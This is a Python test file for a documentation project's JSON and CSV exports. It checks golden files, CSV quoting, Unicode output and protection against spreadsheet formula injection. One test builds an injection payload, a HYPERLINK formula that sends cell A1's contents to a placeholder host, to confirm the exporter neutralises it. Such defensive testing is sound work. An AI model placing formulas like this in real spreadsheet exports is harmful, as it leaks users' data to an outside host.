"""The JSON and CSV exports: exact files from the fixture data, and cells a spreadsheet cannot run.

Golden files live in tests/golden/exports/. After an intended change,
regenerate them with ``UPDATE_GOLDEN=1 .venv/bin/pytest tests/test_exports.py``
and review the diff.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
from pathlib import Path

import pytest

from trustdocs.model.dataset import DataSet
from trustdocs.pipeline.load import load_dataset
from trustdocs.rendering.exports import data_json, duties_csv, export_files, partners_csv

HERE = Path(__file__).parent
MINI = HERE / "fixtures" / "mini_data"
GOLDEN = HERE / "golden"
# What a spreadsheet reads as the start of a formula (OWASP, "CSV injection").
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.fixture(scope="module")
def mini() -> DataSet:
    return load_dataset(MINI)


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


@pytest.mark.parametrize("path", ["exports/trustdocs-data.json", "exports/partners.csv", "exports/duties.csv"])
def test_export_matches_its_golden_file(mini, path):
    actual = export_files(mini)[path]
    golden = GOLDEN / path
    if os.environ.get("UPDATE_GOLDEN"):
        golden.parent.mkdir(parents=True, exist_ok=True)
        golden.write_bytes(actual)
    assert actual == golden.read_bytes()


def test_the_exports_are_exactly_these_three_files(mini):
    assert sorted(export_files(mini)) == ["exports/duties.csv", "exports/partners.csv", "exports/trustdocs-data.json"]


def test_the_json_export_is_the_data_set_in_plain_values(mini):
    data = json.loads(export_files(mini)["exports/trustdocs-data.json"])
    assert [p["id"] for p in data["partners"]] == [p.id for p in mini.partners]
    assert data["partners"][1]["status_history"][1]["start"] == "2008-07"  # a PartialDate, as written
    assert not any(key.startswith("_") for key in data)  # the data set's own look-up tables are not data
    assert data["board"]["membership"][0]["id"] == mini.board.membership[0].id


def test_csv_rows_end_with_crlf_and_quote_cells_with_commas(mini):
    content = partners_csv(mini)
    assert content.endswith(b"\r\n") and content.count(b"\r\n") == len(mini.partners) + 1
    assert b'"Test Act, section 1"' in content


def _with_partner_name(data: DataSet, name: str) -> DataSet:
    return dataclasses.replace(data, partners=(dataclasses.replace(data.partners[0], name=name), *data.partners[1:]))


def _with_duty_name(data: DataSet, name: str) -> DataSet:
    return dataclasses.replace(data, duties=(dataclasses.replace(data.duties[0], name=name), *data.duties[1:]))


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_a_cell_that_a_spreadsheet_would_run_is_made_text(mini, start):
    value = start + 'HYPERLINK("http://x.example/?"&A1,"Click")'
    partners = _rows(partners_csv(_with_partner_name(mini, value)))
    assert partners[1][1] == "'" + value
    duties = _rows(duties_csv(_with_duty_name(mini, value)))
    assert [row[1] for row in duties[1:] if row[0] == mini.duties[0].id] == ["'" + value] * len(mini.duties[0].status)


@pytest.mark.parametrize("value", ["Plain text", "1+1", "a=b", "e-mail", "name@example", " =1+1", "'quoted", ""])
def test_a_cell_that_does_not_start_a_formula_is_left_as_written(mini, value):
    assert _rows(partners_csv(_with_partner_name(mini, value)))[1][1] == value


# Found by make mutation: text beyond ASCII, and sets, in the JSON export.
def test_the_json_export_writes_text_as_it_is_not_as_escapes(mini):
    name = "Café – ‘Children’s’ Trust"
    exported = data_json(_with_partner_name(mini, name))
    assert f'"name": "{name}"'.encode() in exported
    assert b"\\u" not in exported


def test_a_set_is_exported_as_a_sorted_list_of_its_values():
    from trustdocs.rendering.exports import _plain

    assert _plain({"b": frozenset({"z", "a"})}["b"]) == ["a", "z"]
    assert _plain([{"c", "b"}]) == [["b", "c"]]
